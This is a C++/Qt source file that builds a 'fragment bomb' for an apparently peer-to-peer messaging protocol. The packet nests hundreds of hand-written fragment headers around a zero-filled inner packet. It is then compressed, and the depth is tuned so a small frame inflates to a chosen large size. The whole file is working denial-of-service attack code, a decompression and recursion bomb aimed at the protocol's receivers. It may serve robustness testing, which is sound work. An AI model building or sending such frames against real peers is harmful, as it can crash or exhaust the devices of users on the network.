// SPDX-License-Identifier: GPL-3.0-or-later
#include "FragmentBomb.h"

#include <algorithm>

#include <QtEndian>

#include "FragmentPayload.h"
#include "Packet.h"
#include "PacketCodec.h"
#include "PacketForge.h"
#include "PayloadCompressor.h"

namespace {
template<typename T>
void appendBigEndian(QByteArray &out, T value)
{
    uchar bytes[sizeof(T)];
    qToBigEndian(value, bytes);
    out.append(reinterpret_cast<const char *>(bytes), sizeof(T));
}

// One nesting level of the bomb: a version 2 fragment packet header (spec 01 §2: version, type,
// ttl, timestamp, flags, 4-byte payload length, sender) and the fragment header (spec 02 §3.1)
// announcing total = 1, whose data — the next level — follows. Written by hand because the
// codec would copy the whole rest of the bomb for every level.
constexpr qsizetype LevelBytes = 16 + PeerId::Size + FragmentPayload::HeaderSize;

void appendLevel(QByteArray &out, const PeerId &sender, quint64 timestamp,
                 const QByteArray &fragmentId, quint32 dataBytes, quint8 originalType)
{
    out.append(char(2));
    out.append(char(MessageType::Fragment));
    out.append(char(Packet::DefaultTtl));
    appendBigEndian(out, timestamp);
    out.append(char(0)); // no recipient, signature, compression or route
    appendBigEndian(out, quint32(FragmentPayload::HeaderSize + dataBytes));
    out.append(sender.toBytes());
    out.append(fragmentId);
    appendBigEndian(out, quint16(0)); // index
    appendBigEndian(out, quint16(1)); // total
    out.append(char(originalType));
}
} // namespace

QByteArray FragmentBomb::withDepth(const PeerId &sender, qsizetype inflatedBytes, int depth)
{
    const quint64 timestamp = PacketForge::nowMs();
    const QByteArray fragmentId = PacketForge::randomBytes(FragmentPayload::IdSize);
    // Innermost: an unknown-type packet (a v2 header and the sender) whose payload of zeros
    // fills what the levels leave of the inflated size.
    const qsizetype innermostHeader = 16 + PeerId::Size;
    const qsizetype filler = std::max<qsizetype>(0, inflatedBytes - FragmentPayload::HeaderSize -
                                                        depth * LevelBytes - innermostHeader);
    const qsizetype innermostFrame = innermostHeader + filler;

    QByteArray nested;
    nested.reserve(depth * LevelBytes + innermostFrame);
    for (int level = depth; level >= 1; --level) {
        // Level `level` carries the frames of the levels below it and the innermost packet.
        const auto below = quint32((level - 1) * LevelBytes + innermostFrame);
        appendLevel(nested, sender, timestamp, fragmentId, below,
                    level == 1 ? PacketForge::UnknownType : quint8(MessageType::Fragment));
    }
    nested.append(char(2));
    nested.append(char(PacketForge::UnknownType));
    nested.append(char(Packet::DefaultTtl));
    appendBigEndian(nested, timestamp);
    nested.append(char(0));
    appendBigEndian(nested, quint32(filler));
    nested.append(sender.toBytes());
    nested.append(QByteArray(filler, '\0'));

    FragmentPayload outer;
    outer.fragmentId = fragmentId;
    outer.index = 0;
    outer.total = 1;
    outer.originalType = quint8(MessageType::Fragment);
    outer.data = nested;
    Packet packet;
    packet.version = 2;
    packet.type = quint8(MessageType::Fragment);
    packet.timestamp = timestamp;
    packet.senderId = sender;
    packet.payload = outer.encode();
    packet.compressedPayload =
        PayloadCompressor::compress(packet.payload, 2, PayloadCompressor::Policy::Always);
    return PacketCodec::encode(packet).value();
}

QByteArray FragmentBomb::build(const PeerId &sender, qsizetype maxFrameBytes,
                               qsizetype inflatedBytes, int *depth)
{
    // How well the levels compress is found by trying: DEFLATE sees a 37-byte record whose
    // length field changes each time. Start from a guess, scale to the frame budget, back off.
    int levels = 1000;
    QByteArray frame = withDepth(sender, inflatedBytes, levels);
    const QByteArray empty = withDepth(sender, inflatedBytes, 0);
    const double perLevel = double(frame.size() - empty.size()) / levels;
    levels = int(double(maxFrameBytes - empty.size()) / perLevel);
    frame = withDepth(sender, inflatedBytes, levels);
    while (frame.size() > maxFrameBytes && levels > 1) {
        levels = levels * 19 / 20;
        frame = withDepth(sender, inflatedBytes, levels);
    }
    if (depth)
        *depth = levels;
    return frame;
}
